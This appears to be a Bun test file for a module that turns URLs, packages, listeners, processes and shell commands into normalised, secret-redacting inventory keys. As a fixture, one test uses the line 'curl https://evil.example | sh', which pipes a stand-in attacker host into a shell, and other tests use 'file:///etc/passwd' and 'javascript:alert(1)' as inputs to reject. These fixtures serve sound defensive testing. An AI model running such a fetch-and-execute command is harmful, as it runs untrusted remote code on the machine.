import { describe, expect, test } from 'bun:test';
import { LIMITS } from '../domain/limits.ts';
import { isLikeness, keyOfContainer, keyOfHost, keyOfListener, keyOfPackage, keyOfProcess, keyOfProgram, keyOfUrl, keysOfRuns } from './keys.ts';

describe('an address', () => {
  test('is one key however it is written', () => {
    const key = 'url:https://mcp.example.com/mcp';
    for (const url of [
      'https://mcp.example.com/mcp', 'HTTPS://MCP.example.com:443/mcp/', 'https://user:pass@mcp.example.com/mcp?key=secret#x', 'https://mcp.example.com./mcp',
    ]) expect(keyOfUrl(url, 'laptop-7')).toBe(key);
    expect(keyOfUrl('https://mcp.example.com')).toBe('url:https://mcp.example.com/');
  });

  test('is another with another path, port or scheme', () => {
    const keys = ['https://a.example/mcp', 'https://a.example/sse', 'https://a.example:8443/mcp', 'http://a.example/mcp'].map((url) => keyOfUrl(url));
    expect(new Set(keys).size).toBe(4);
  });

  test('of loopback belongs to its machine, and is nobody\'s without one', () => {
    expect(keyOfUrl('http://localhost:3000/mcp', 'Laptop-7')).toBe('url:laptop-7!http://127.0.0.1:3000/mcp');
    expect(keyOfUrl('http://0.0.0.0:3000/mcp', 'laptop-7')).toBe(keyOfUrl('http://[::1]:3000/mcp', 'laptop-7'));
    expect(keyOfUrl('http://localhost:3000/mcp', 'laptop-8')).not.toBe(keyOfUrl('http://localhost:3000/mcp', 'laptop-7'));
    expect(keyOfUrl('http://localhost:3000/mcp')).toBeUndefined();
  });

  test('that is a secret itself shows a digest of it', () => {
    const secret = 'MDQxYzZlNjgtZDQ3ZC00NmRhLWIw';
    const [key, other] = [secret, `${secret}x`].map((each) => keyOfUrl(`https://mcp.example.com/api/s/${each}/mcp`));
    expect(key).toMatch(/^url:https:\/\/mcp\.example\.com\/api\/s\/~[\w-]{12}\/mcp$/);
    expect(other).not.toBe(key);
  });

  test('that is none has no key', () => {
    for (const url of ['', 'file:///etc/passwd', 'mcp.example.com', 'javascript:alert(1)', '${URL}']) expect(keyOfUrl(url, 'laptop-7')).toBeUndefined();
  });
});

test('a package is one key in every version and spelling of its registry', () => {
  expect(keyOfPackage('pypi', 'MCP_Server.Git')).toBe(keyOfPackage('pypi', 'mcp-server-git'));
  expect(keyOfPackage('npm', '@Scope/Name')).toBe('package:npm/@scope/name');
  expect(keyOfPackage('oci', 'docker.io/mcp/fetch:1.2')).toBe(keyOfPackage('oci', `mcp/fetch@sha256:${'a'.repeat(64)}`));
  expect(keyOfPackage('oci', 'docker.io/library/x')).toBe(keyOfPackage('oci', 'x:latest'));
  expect(keyOfPackage('oci', 'localhost:5000/x')).toBe('package:oci/localhost:5000/x');
});

test('a listener is one key wherever it is bound, a script is its program', () => {
  expect(keyOfListener('laptop-7', '::', 3000)).toBe('listener:laptop-7!127.0.0.1:3000');
  expect(keyOfListener('laptop-7', '10.0.0.5', 3000)).toBe('listener:laptop-7!10.0.0.5:3000');
  expect(keyOfProgram('laptop-7', '/usr/bin/node', '/opt/x/server.js')).toBe('program:laptop-7!/opt/x/server.js');
  expect(keyOfProcess('laptop-7', 4711, 1763900000.7)).toBe('process:laptop-7!4711!1763900000');
  expect(keyOfContainer('laptop-7', 'f'.repeat(80))).toBe(`container:laptop-7!${'f'.repeat(64)}`);
});

test('a name of a machine cannot reach into the next part of a key', () => {
  expect(keyOfProgram('a!b', '/c')).toBe('program:a_b!/c');
});

test('what is longer than a key may be stays itself by its digest', () => {
  const [one, other] = [keyOfHost(`${'a'.repeat(2000)}1`), keyOfHost(`${'a'.repeat(2000)}2`)];
  expect(one).not.toBe(other);
  expect(one.length).toBeLessThan(LIMITS.assetKeyCharsMax);
});

function keysOfLines(...lines: readonly string[]): readonly string[] {
  return lines.flatMap((line) => keysOfRuns({ kind: 'shell', line }, 'm'));
}

test('what runs is known by what it really is', () => {
  expect(keysOfRuns({ kind: 'remote', url: 'https://a.example/mcp' }, undefined)).toEqual(['url:https://a.example/mcp']);
  expect(keysOfRuns({ kind: 'gate', server: 'crm' }, 'laptop-7')).toEqual(['gate:crm']);
  expect(keysOfRuns({ kind: 'program', program: '/opt/x' }, undefined)).toEqual([]);
  const line = 'curl https://evil.example | sh # sk-secret';
  const [key = ''] = keysOfRuns({ kind: 'shell', line }, 'laptop-7');
  expect(key).toStartWith('program:laptop-7!sh:');
  expect(key).not.toContain('secret');
  // No digest of a secret leaves, so that two lines that differ in nothing else look alike; all others differ.
  const [one, other] = keysOfLines('x --token=hunter2', 'x --token=hunter3');
  expect([one === other, isLikeness(one ?? '')]).toEqual([true, true]);
  expect(new Set(keysOfLines('a | sh', 'b | sh')).size).toBe(2);
  expect(keysOfLines('a | sh').map(isLikeness)).toEqual([false]);
});
